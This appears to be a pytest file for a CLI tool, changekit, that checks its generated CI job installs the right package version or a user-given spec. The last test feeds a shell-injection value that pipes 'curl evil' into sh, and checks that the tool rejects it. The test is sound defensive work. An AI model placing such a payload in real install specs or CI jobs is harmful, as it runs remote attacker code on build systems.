"""The generated CI job installs what the team says: this version by default, or their own spec."""

from __future__ import annotations

import yaml

from changekit import __version__


def _install_line(text: str) -> str:
    return next(line.strip() for line in text.splitlines() if "pip install" in line)


def test_default_installs_this_version(run_cli):
    out = run_cli("ci", "github", "--stdout").stdout
    assert _install_line(out).endswith(f'pip install "changekit=={__version__}"')
    yaml.safe_load(out)


def test_install_spec_from_a_git_url(run_cli):
    spec = "changekit @ git+https://git.example.org/ops/changekit@v0.1.0"
    for forge in ("github", "gitlab"):
        out = run_cli("ci", forge, "--stdout", "--install", spec).stdout
        assert _install_line(out).endswith(f'pip install "{spec}"')
        yaml.safe_load(out)


def test_install_spec_cannot_inject_shell(run_cli):
    result = run_cli("ci", "github", "--stdout", "--install", 'x"; curl evil | sh; "')
    assert result.exit_code == 3
    assert "--install" in result.stderr and "Traceback" not in result.stderr
